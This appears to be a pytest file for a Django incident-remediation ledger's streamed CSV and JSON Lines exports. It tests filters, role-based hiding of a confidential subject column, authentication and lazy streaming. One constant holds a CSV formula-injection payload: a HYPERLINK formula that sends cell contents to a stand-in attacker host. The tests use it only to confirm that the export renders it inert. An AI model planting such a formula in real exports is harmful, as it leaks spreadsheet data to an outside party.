"""The ledger's streamed exports (CSV, JSON Lines): the same filters as the list, streamed while the rows are read
(a constant number of queries, none before the body is read), formula-safe CSV cells, and the confidential subject
reference's column absent for the roles not cleared for it."""

import csv
import io
import json

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext

from incidents.tests.factories import open_incident
from remediation import exports
from remediation.tests.api_helpers import LIST, field_errors
from remediation.tests.factories import affected_record

pytestmark = pytest.mark.django_db

CSV, JSONL = f"{LIST}export.csv", f"{LIST}export.jsonl"
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'




def body(response) -> str:
    assert response.status_code == 200, getattr(response, "content", b"")
    return b"".join(response.streaming_content).decode()


def csv_rows(response):
    return list(csv.DictReader(io.StringIO(body(response))))


def test_the_csv_export_streams_the_filtered_records_with_formulas_made_inert(client_for, compliance, incident):
    affected_record(compliance, incident=incident, external_id=INJECTION, subject_ref="@SUM(1+1)",
                    note="-2+3", jurisdiction="DE")
    affected_record(compliance, incident=incident, external_id="plain", kind="person")
    affected_record(compliance, incident=open_incident(compliance), external_id="elsewhere")
    response = client_for("compliance").get(f"{CSV}?incident={incident.reference}")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="affected-records.csv"' in response["Content-Disposition"]
    rows = csv_rows(response)
    assert [row["external_id"] for row in rows] == ["'" + INJECTION, "plain"]
    assert rows[0]["subject_ref"] == "'@SUM(1+1)" and rows[0]["note"] == "'-2+3"
    assert rows[0]["incident"] == incident.reference and rows[0]["version"] == "1"
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


def test_the_jsonl_export_gives_one_object_per_record_as_stored(client_for, compliance, incident):
    record = affected_record(compliance, incident=incident, external_id=INJECTION, contact_channel="email")
    response = client_for("legal").get(f"{JSONL}?kind=decision")
    lines = [json.loads(line) for line in body(response).splitlines()]
    assert response["Content-Type"].startswith("application/jsonl")
    assert lines == [{**lines[0], "id": record.pk, "external_id": INJECTION, "contact_channel": "email",
                      "state": "identified", "version": 1}]
    assert lines[0]["state_changed_at"].endswith("+00:00")


@pytest.mark.parametrize("role", ("leadership", "auditor"))
def test_the_subject_reference_column_is_absent_for_the_roles_not_cleared(client_for, compliance, incident, role):
    affected_record(compliance, incident=incident, external_id="x", subject_ref="subject-secret")
    csv_text = body(client_for(role).get(CSV))
    jsonl_text = body(client_for(role).get(JSONL))
    assert "subject_ref" not in csv_text and "subject-secret" not in csv_text + jsonl_text
    assert "subject_ref" not in json.loads(jsonl_text.splitlines()[0])


@pytest.mark.parametrize("role", ("compliance", "responder", "legal"))
def test_the_cleared_roles_get_the_subject_reference_column(client_for, compliance, incident, role):
    affected_record(compliance, incident=incident, external_id="x", subject_ref="subject-1")
    assert csv_rows(client_for(role).get(CSV))[0]["subject_ref"] == "subject-1"


def test_a_bad_filter_is_a_400_naming_it_before_anything_is_streamed(client_for, incident):
    assert "state" in field_errors(client_for("compliance").get(f"{CSV}?state=lost"))
    assert "subject_ref" in field_errors(client_for("auditor").get(f"{JSONL}?subject_ref=x"))


def test_anonymous_clients_and_tokens_without_read_get_nothing(client_for, compliance, incident):
    affected_record(compliance, incident=incident, external_id="x")
    assert client_for(None).get(CSV).status_code in (401, 403)
    assert client_for("compliance", scopes=["alert_intake"]).get(CSV).status_code == 403
    assert client_for("compliance", scopes=["read"]).get(CSV).status_code == 200


def _export_queries(client, url):
    with CaptureQueriesContext(connection) as before_body:
        response = client.get(url)
    with CaptureQueriesContext(connection) as reading:
        text = body(response)
    return before_body, reading, text


def test_the_export_reads_the_rows_only_while_streaming_in_a_constant_number_of_queries(client_for, compliance,
                                                                                       incident, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK", 4)  # several chunks, still one query
    client = client_for("responder")
    affected_record(compliance, incident=incident, external_id="r-0")
    before_few, reading_few, few = _export_queries(client, CSV)
    for i in range(1, 15):
        affected_record(compliance, incident=incident, external_id=f"r-{i}")
    before_many, reading_many, many = _export_queries(client, CSV)
    assert not any("remediation_affectedrecord" in q["sql"] for q in before_few.captured_queries)  # lazy
    assert len(before_few) == len(before_many) and len(reading_few) == len(reading_many) == 1
    assert not any("COUNT(" in q["sql"].upper() for q in reading_many.captured_queries)
    assert few.count("\n") == 2 and many.count("\n") == 16
